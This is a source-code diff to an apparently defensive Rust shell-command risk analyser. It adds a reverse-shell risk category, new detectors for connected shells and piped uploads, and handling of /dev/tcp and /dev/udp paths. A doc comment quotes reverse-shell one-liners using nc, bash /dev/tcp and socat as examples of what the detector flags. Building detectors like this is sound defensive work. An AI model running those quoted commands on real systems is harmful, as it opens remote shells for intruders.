@@ -23,6 +23,9 @@ pub enum RiskKind {
     ForcePush,
     /// `git push` to a remote added in the same command, or to a URL.
     PushToNewRemote,
+    /// A shell wired to a network connection (`nc -e /bin/sh`,
+    /// `bash -i >& /dev/tcp/h/p`, `socat exec:bash tcp:h:p`).
+    ReverseShell,
     /// `terraform destroy`, `kubectl delete`, `DROP`/`TRUNCATE`, cloud deletes.
     InfraDestroy,
     /// Clearing shell history or logs.
@@ -70,6 +73,7 @@ impl RiskKind {
             Self::PrivilegeEscalation => "privilege_escalation",
             Self::ForcePush => "force_push",
             Self::PushToNewRemote => "push_to_new_remote",
+            Self::ReverseShell => "reverse_shell",
             Self::InfraDestroy => "infra_destroy",
             Self::HistoryTampering => "history_tampering",
             Self::DynamicProgram => "dynamic_program",
@@ -174,6 +178,8 @@ pub(super) fn assess(analysis: &mut ShellAnalysis, context: &ShellContext<'_>) {
     analysis.paths_outside_workspace = outside;
     pushes_to_new_remotes(&analysis.invocations, &mut found);
     super::egress::secret_variables(&analysis.invocations, &mut found);
+    super::egress::connected_shells(&analysis.invocations, &mut found);
+    super::egress::piped_uploads(&analysis.invocations, context, &mut found);
     for function in &analysis.functions {
         if calls_itself_in_background(analysis, function) {
             found.push(risk(
@@ -444,15 +450,6 @@ fn operands(i: &Invocation) -> impl Iterator<Item = &super::word::Word> {
     i.arg_words.iter().filter(|w| !w.text.starts_with('-'))
 }
 
-/// Temporary and cache locations whose contents can be deleted without loss:
-/// anything below `/tmp`, `/var/tmp` or `~/.cache` (not those directories).
-fn is_scratch(path: &str, ctx: &ShellContext<'_>) -> bool {
-    let cache = format!("{}/.cache/", ctx.home.trim_end_matches('/'));
-    ["/tmp/", "/var/tmp/", cache.as_str()]
-        .iter()
-        .any(|dir| path.starts_with(dir) && path.len() > dir.len())
-}
-
 fn deletes(i: &Invocation, ctx: &ShellContext<'_>, outside: &mut Vec<String>, out: &mut Vec<Risk>) {
     let targets: Vec<&super::word::Word> = match i.program.as_str() {
         "rm" if has_flag(&i.args, 'r', "--recursive")
@@ -507,9 +504,10 @@ fn deletes(i: &Invocation, ctx: &ShellContext<'_>, outside: &mut Vec<String>, ou
         }
         targets.extend(i.piped_operands.iter());
     }
-    for target in targets {
+    for target in targets.into_iter().flat_map(super::word::expand_braces) {
+        let target = &target;
         let resolved = resolve(target, ctx);
-        if !resolved.inside_workspace && is_scratch(&resolved.path, ctx) {
+        if !resolved.inside_workspace && crate::places::is_scratch(&resolved.path, ctx.home) {
             continue;
         }
         let kind = if resolved.inside_workspace {
@@ -555,6 +553,8 @@ fn is_null_device(path: &str) -> bool {
         path,
         "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty" | "/dev/zero"
     ) || path.starts_with("/dev/fd/")
+        || path.starts_with("/dev/tcp/")
+        || path.starts_with("/dev/udp/")
 }
 
 fn permissions(i: &Invocation, ctx: &ShellContext<'_>, out: &mut Vec<Risk>) {
@@ -590,11 +590,12 @@ const SCRIPT_READERS: &[&str] = &[
 
 fn shells(i: &Invocation, out: &mut Vec<Risk>) {
     let program = i.program.as_str();
+    let sources_script = matches!(program, "source" | ".");
     let interpreter = SCRIPT_READERS.contains(&program)
         && !INTERPRETERS.iter().any(|(name, flags)| {
             *name == program && i.args.iter().any(|a| flags.contains(&a.as_str()))
         });
-    if !SHELLS.contains(&program) && !interpreter {
+    if !SHELLS.contains(&program) && !interpreter && !sources_script {
         return;
     }
     let reads_script = |sources: &[String]| {
